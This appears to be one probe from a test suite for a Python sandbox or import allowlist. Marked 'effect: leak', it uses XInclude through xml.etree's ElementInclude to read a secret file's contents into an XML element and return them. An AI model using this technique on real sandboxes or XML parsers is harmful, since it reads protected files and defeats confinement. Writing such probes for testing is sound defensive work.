# effect: leak
# note: the parent of an allowed dotted name
import xml.etree.ElementTree as tree
from xml.etree import ElementInclude


def attempt(probe):
    element = tree.fromstring(
        '<a xmlns:xi="http://www.w3.org/2001/XInclude">'
        f'<xi:include href="{probe["secret_file"]}" parse="text"/></a>'
    )
    ElementInclude.include(element)
    return tree.tostring(element)
